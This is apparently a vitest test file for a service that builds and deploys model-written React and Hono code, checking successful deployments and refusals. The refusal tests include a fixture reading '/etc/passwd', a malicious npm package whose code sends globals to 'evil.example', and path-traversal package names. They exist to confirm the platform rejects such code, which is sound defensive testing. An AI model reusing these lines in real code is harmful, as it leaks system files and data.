/**
 * [OVER] Code handed over with POST /api/projects: built, tried, deployed, or refused with its reason and nothing stored.
 * Long, since the code that people hand over stands in it as they would write it.
 */
import { env, exports } from 'cloudflare:workers';
import { beforeAll, describe, expect, test, vi } from 'vitest';
import { openProject } from '../../../worker/api/open-project.ts';
import { buildBackend } from '../../../worker/builder/isolate/build-backend.ts';
import { Project } from '../../../worker/contract/http.ts';
import { readSettings } from '../../../worker/env.ts';
import type { WorkerEnv } from '../../../worker/worker-env.ts';
import todo from '../../fixtures/blueprints/todo.json' with { type: 'json' };
import { openFakeRegistry, REGISTRY } from '../../support/servers/fake-registry.ts';
import { type Answer, callApi, type Person, signUp } from './support/call-api.ts';

const bindings = env as unknown as WorkerEnv;
const { DB } = bindings;
const NPM = readSettings(bindings).NPM_REGISTRY;

const FRONTEND = `import React, { useEffect, useState } from 'react';

export default function App() {
  const [items, setItems] = useState([]);
  useEffect(() => {
    fetch('http://localhost:8000/items').then((answer) => answer.json()).then(setItems);
  }, []);
  return (
    <main className="min-h-screen bg-gray-100 p-4">
      <h1>Shopping</h1>
      <ul>{items.map((item) => <li key={item.id}>{item.name}</li>)}</ul>
    </main>
  );
}`;

const HONO = `import { Hono } from 'hono';
import { cors } from 'hono/cors';

type Item = { id: number; name: string };
const items: Item[] = [{ id: 1, name: 'Bread' }];

const app = new Hono();
app.use('*', cors());
app.get('/items', (c) => c.json(items));
app.post('/items', async (c) => {
  const { name } = await c.req.json();
  const item = { id: items.length + 1, name };
  items.push(item);
  return c.json(item, 201);
});

export default app;`;

// Starting the bundler takes long on a busy machine.
beforeAll(() => buildBackend({ 'backend/main.ts': HONO }, bindings));

const fence = (language: string, code: string) =>
  `Here is the code:\n\n\`\`\`${language}\n${code}\n\`\`\`\n\nHave fun!`;

const importCode = (person: Person, body: object, headers: Record<string, string> = {}) =>
  callApi('/api/projects', { body: { name: 'Shopping', ...body }, token: person.token, headers });

/** As a visitor's browser would be sent there. */
const visit = (url: string, path: string, init: RequestInit = {}) =>
  exports.default.fetch(new Request(new URL(path, url), init));

const HTML = { headers: { accept: 'text/html,application/xhtml+xml' } };

async function expectNothingStored(person: Person): Promise<void> {
  expect((await callApi('/api/projects', { token: person.token })).body).toEqual([]);
  for (const table of ['projects', 'runs'])
    expect(
      await DB.prepare(
        `select count(*) as rows from ${table} where ${table === 'runs' ? 'user_id' : 'owner_id'} = ?`,
      )
        .bind(person.id)
        .first('rows'),
    ).toBe(0);
}

describe('deployed', () => {
  test('[OVER1] a React page and a Hono backend, as a model writes them, are live at an address of their own', async () => {
    const person = await signUp();
    const answer = await importCode(person, {
      description: 'What to buy',
      frontend_code: fence('jsx', FRONTEND),
      backend_code: fence('typescript', HONO),
      status: 'deployed',
    });
    expect([answer.status, answer.body.error]).toEqual([201, undefined]);
    const project = Project.parse(answer.body);
    expect(project).toMatchObject({ name: 'Shopping', status: 'deployed', framework: 'React + Hono' });
    const url = project.deployed_url as string;
    const page = await visit(url, '/', HTML);
    expect([page.status, page.headers.get('content-type')]).toEqual([200, 'text/html; charset=utf-8']);
    expect(await page.text()).toContain('<title>Shopping</title>');
    // The page's own calls: not below /api, and no document.
    expect(await (await visit(url, '/items')).json()).toEqual([{ id: 1, name: 'Bread' }]);
    const added = await visit(url, '/items', { method: 'POST', body: '{"name":"Milk"}' });
    expect(added.status).toBe(201);
    // What a browser is sent to stays the page's.
    expect(await (await visit(url, '/items', HTML)).text()).toContain('<div id="root">');
    const files = await callApi(`/api/projects/${project.id}/files`, { token: person.token });
    const paths = files.body.files.map((file: { path: string }) => file.path);
    expect(paths).toEqual(
      expect.arrayContaining(['src/App.jsx', 'src/main.jsx', 'index.html', 'backend/main.ts', 'README.md']),
    );
    const app = await callApi(`/api/projects/${project.id}/files/src/App.jsx`, { token: person.token });
    expect(app.body.content).toContain("fetch('/items')");
    expect(app.body.content).not.toContain('```');
  });

  test('[OVER2] a page alone gets a backend that says no more than that it is there; what only a browser has is no fault', async () => {
    const person = await signUp();
    const code = `import { useState } from 'react';
import './App.css';

interface Note { text: string }

const App: React.FC = () => {
  const [notes] = useState<Note[]>(JSON.parse(localStorage.getItem('notes') ?? '[]'));
  return <ul className="notes">{notes.map((note) => <li>{note.text}</li>)}</ul>;
};

export default App;`;
    const answer = await importCode(person, {
      frontend_code: `${fence('tsx', code)}\n\`\`\`css\n.notes { color: rebeccapurple; }\n\`\`\`\n`,
      backend_code: '  \n',
    });
    expect([answer.status, answer.body.error]).toEqual([201, undefined]);
    const { id, deployed_url } = answer.body;
    expect(await (await visit(deployed_url, '/api/health')).json()).toEqual({ status: 'ok' });
    const page = await (await visit(deployed_url, '/')).text();
    const style = /href="([^"]+\.css)"/.exec(page)?.[1] ?? '';
    expect(await (await visit(deployed_url, style)).text()).toMatch(/\.notes\{color:#639\}/);
    const { body } = await callApi(`/api/projects/${id}/build/progress`, { token: person.token });
    expect(body).toMatchObject({ status: 'succeeded', progress: 100 });
    expect(body.steps.find((step: { name: string }) => step.name === 'integration').detail).toBe(
      'The backend starts, 1 address answered; the page needs a browser to be shown, so it was not tried',
    );
  });

  test('[OVER3] a draft keeps its files; built, renamed, copied and deleted it is a project like any other', async () => {
    const person = await signUp();
    const draft = await importCode(person, { backend_code: HONO, status: 'draft' });
    expect([draft.status, draft.body.status, draft.body.deployed_url]).toEqual([201, 'draft', null]);
    const at = `/api/projects/${draft.body.id}`;
    const read = (path: string) => callApi(`${at}/files/${path}`, { token: person.token });
    expect((await read('backend/main.ts')).body.content).toBe(`${HONO}\n`);
    // No page came: the one that is there shows the calls.
    expect((await read('src/App.jsx')).body.content).toContain('"path": "/items"');
    expect((await callApi(`${at}/build/progress`, { token: person.token })).body.error.code).toBe('no_build');

    await settle(person, await callApi(`${at}/build`, { body: {}, token: person.token }));
    const built = await callApi(at, { token: person.token });
    expect(built.body.status).toBe('deployed');
    expect(await (await visit(built.body.deployed_url, '/items')).json()).toHaveLength(1);
    await callApi(at, { method: 'PATCH', body: { name: 'Groceries' }, token: person.token });

    const copy = await callApi(`${at}/duplicate`, { method: 'POST', token: person.token });
    expect([copy.status, copy.body.status, copy.body.name]).toEqual([201, 'draft', 'Groceries copy']);
    const project = openProject(bindings, copy.body.id);
    const [deployment] = await project.listDeployments('production', 1);
    const deployed = await project.waitForDeployment(deployment?.id ?? '', 60_000);
    expect([deployed?.status, deployed?.error]).toEqual(['deployed', null]);
    const copied = (await callApi(`/api/projects/${copy.body.id}`, { token: person.token })).body;
    expect(copied.status).toBe('deployed');
    expect(copied.deployed_url).not.toBe(built.body.deployed_url);
    expect(await (await visit(copied.deployed_url, '/items')).json()).toHaveLength(1);

    await callApi(`/api/projects/${copied.id}`, { method: 'DELETE', token: person.token });
    expect((await visit(copied.deployed_url, '/items')).status).toBe(404);
  });

  test('[OVER8] built from a plan, the project is what the plan says, at the same address', async () => {
    const person = await signUp();
    const made = await importCode(person, { backend_code: HONO });
    const at = `/api/projects/${made.body.id}`;
    const url = made.body.deployed_url;
    const read = (path: string) => callApi(`${at}/files/${path}`, { token: person.token });
    expect(await (await visit(url, '/items')).json()).toHaveLength(1);
    await settle(person, await callApi(`${at}/build`, { body: { blueprint: todo }, token: person.token }));
    expect((await callApi(at, { token: person.token })).body).toMatchObject({
      status: 'deployed',
      deployed_url: url,
    });
    expect((await read('src/App.jsx')).status).toBe(404);
    expect((await read('backend/main.ts')).body.content).toContain('createApp');
    expect(await (await visit(url, '/api/health')).json()).toEqual({ status: 'ok' });
    // What was not handed over is not open.
    expect((await visit(url, '/items', { method: 'POST' })).status).toBe(405);
  });

  test('[OVER4] who does not wait hears at once where to look; the same key is the same project', async () => {
    const person = await signUp();
    const headers = { prefer: 'respond-async', 'idempotency-key': 'one' };
    const first = await importCode(person, { backend_code: HONO }, headers);
    const second = await importCode(person, { backend_code: HONO }, headers);
    expect([first.status, first.body.status, second.body.id]).toEqual([202, 'building', first.body.id]);
    const location = first.headers.get('location') as string;
    await vi.waitFor(
      async () => expect((await callApi(location, { token: person.token })).body.status).toBe('succeeded'),
      { timeout: 60_000, interval: 100 },
    );
  });

  test('[OVER11] a refusal takes away what its own call made, whatever else had its key', async () => {
    const person = await signUp();
    const headers = { 'idempotency-key': 'shared' };
    const planned = await callApi('/api/agents/pipeline', {
      body: { requirements: 'qwrt zxcv plmk', execute_all: false },
      token: person.token,
      headers,
    });
    expect(planned.body.status).toBe('failed');
    const code = `import { Hono } from 'hono';\nthrow new Error('no');\nexport default new Hono();`;
    const refused = await importCode(person, { backend_code: code }, headers);
    expect([refused.status, refused.body.error.code]).toEqual([422, 'not_deployed']);
    const left = await callApi('/api/projects', { token: person.token });
    expect(left.body.map((project: { id: string }) => project.id)).toEqual([planned.body.project_id]);
  });
});

describe('refused, and nothing stored', () => {
  const page = (body: string) => ({ frontend_code: `export default function App() {\n  ${body}\n}` });
  const server = (body: string) => ({
    backend_code: `import { Hono } from 'hono';\nconst app = new Hono();\n${body}\nexport default app;`,
  });
  const REFUSED: [string, object, string, RegExp][] = [
    [
      'a page with a mistake',
      page('return <p>oh</div>;'),
      'build_failed',
      /^src\/App\.jsx:2:\d+: .*closing "div" tag does not match/,
    ],
    [
      'a backend with a mistake',
      server('const = 1;'),
      'build_failed',
      /^backend\/main\.ts:3:7: Where "=" stands, .* The bundler says: Expected identifier/,
    ],
    [
      'a page without a component',
      { frontend_code: 'const x = 1;' },
      'build_failed',
      /exports no component: end it with "export default App;"/,
    ],
    [
      'a file that did not come along',
      { frontend_code: `import Header from './Header';\nexport default () => <Header />;` },
      'build_failed',
      /"\.\/Header" does not exist/,
    ],
    [
      'another framework',
      { backend_code: 'from flask import Flask\napp = Flask(__name__)' },
      'unsupported',
      /Flask/,
    ],
    [
      'no backend at all',
      { backend_code: 'Sorry, I cannot help with that.' },
      'unsupported',
      /FastAPI in Python or Hono/,
    ],
    [
      'Python without its app',
      { backend_code: 'from fastapi import FastAPI\nserver = FastAPI()' },
      'build_failed',
      /under the name app/,
    ],
    [
      'a server of its own',
      {
        backend_code: `import { serve } from '@hono/node-server';\nimport { Hono } from 'hono';\nserve(new Hono());`,
      },
      'build_failed',
      /leave @hono\/node-server/,
    ],
    [
      'a part of Node',
      {
        backend_code: `import { readFileSync } from 'node:fs';\nimport { Hono } from 'hono';\nexport default new Hono().get('/api/x', (c) => c.text(String(readFileSync('/etc/passwd'))));`,
      },
      'build_failed',
      /needs "fs", a part of Node/,
    ],
    [
      'a backend that throws when it is loaded',
      server(`throw new Error('no database');`),
      'not_deployed',
      /does not start.*no database/,
    ],
    [
      'a route that breaks',
      server(`app.get('/numbers', (c) => c.json(undefined.length));`),
      'not_deployed',
      /\/numbers answers 500/,
    ],
    [
      'a page that throws',
      page('return <p>{missing.name}</p>;'),
      'not_deployed',
      /missing is not defined \(src\/App\.jsx:2\)/,
    ],
    [
      'an endless loop in a page',
      page('for (;;) {}'),
      'not_deployed',
      /src\/App\.jsx:2.*ran on without a pause/,
    ],
    [
      'an endless loop in a backend',
      server('while (true) {}'),
      'not_deployed',
      /backend\/main\.ts:3.*ran on without a pause/,
    ],
  ];

  test.each(REFUSED)('[OVER5] %s', async (_, body, code, message) => {
    const person = await signUp();
    const answer = await importCode(person, { ...body, status: 'deployed' });
    expect([answer.status, answer.body.error.code]).toEqual([422, code]);
    expect([answer.body.error.message, ...answer.body.error.issues.map(textOf)].join('\n')).toMatch(message);
    expect(answer.body.error.issues[0].path[0]).toBe(
      'frontend_code' in body ? 'frontend_code' : 'backend_code',
    );
    await expectNothingStored(person);
  });

  test('[OVER6] packages that mean harm: outside of their folder, not what was published, none at all', async () => {
    const person = await signUp();
    const registry = await openFakeRegistry([
      {
        name: 'climber',
        version: '1.0.0',
        tarball: `${NPM}/climber/-/1.0.0.tgz`,
        files: { 'package.json': '{"main":"index.js"}', '../../index.js': 'export default 1;' },
      },
      {
        name: 'swapped',
        version: '1.0.0',
        tarball: `${NPM}/swapped/-/1.0.0.tgz`,
        integrity: 'sha512-AAAA',
        files: { 'package.json': '{"main":"index.js"}', 'index.js': 'export default 1;' },
      },
      {
        name: 'talker',
        version: '1.0.0',
        tarball: `${NPM}/talker/-/1.0.0.tgz`,
        files: {
          'package.json': '{"main":"index.js","scripts":{"postinstall":"exit 1"}}',
          'index.js': `export default await fetch('https://evil.example/?' + Object.keys(globalThis));`,
        },
      },
    ]);
    const spy = vi.spyOn(globalThis, 'fetch').mockImplementation((asked) => {
      const address = asked instanceof Request ? asked.url : String(asked);
      return registry.fetch(address.endsWith('.tgz') ? address : address.replace(NPM, REGISTRY));
    });
    try {
      for (const [name, reason] of [
        ['climber', /climber/],
        ['swapped', /its archive is not the one that was published/],
        ['nowhere-to-be-found', /the registry does not have it/],
        ['../../etc', /does not exist|leads out of the project/],
        ['talker', /does not start/],
      ] as const) {
        const answer = await importCode(person, {
          backend_code: `import x from '${name}';\nimport { Hono } from 'hono';\nexport default new Hono().get('/api/x', (c) => c.json(x));`,
        });
        expect([name, answer.status]).toEqual([name, 422]);
        expect(answer.body.error.message).toMatch(reason);
      }
      expect(registry.asked.filter((address) => address.includes('evil'))).toEqual([]);
    } finally {
      spy.mockRestore();
    }
    await expectNothingStored(person);
  });

  test('[OVER7] more than may be handed over', async () => {
    const person = await signUp();
    const large = await importCode(person, { frontend_code: 'x'.repeat(500_001) });
    expect([large.status, large.body.error.issues[0].path]).toEqual([400, ['frontend_code']]);
    const larger = await importCode(person, { frontend_code: 'x'.repeat(5 * 1024 * 1024) });
    expect([larger.status, larger.body.error.code]).toEqual([413, 'payload_too_large']);
    await expectNothingStored(person);
  });
});

const textOf = (issue: { message: string }) => issue.message;

/** Waits for the end of a build that was started. */
async function settle(person: Person, started: Answer): Promise<void> {
  expect([200, 202]).toContain(started.status);
  const read = () => callApi(`/api/agents/pipeline/${started.body.pipeline_id}`, { token: person.token });
  await vi.waitFor(async () => expect(['queued', 'running']).not.toContain((await read()).body.status), {
    timeout: 60_000,
    interval: 100,
  });
  const { body } = await read();
  expect([body.error, body.status]).toEqual([null, 'succeeded']);
}
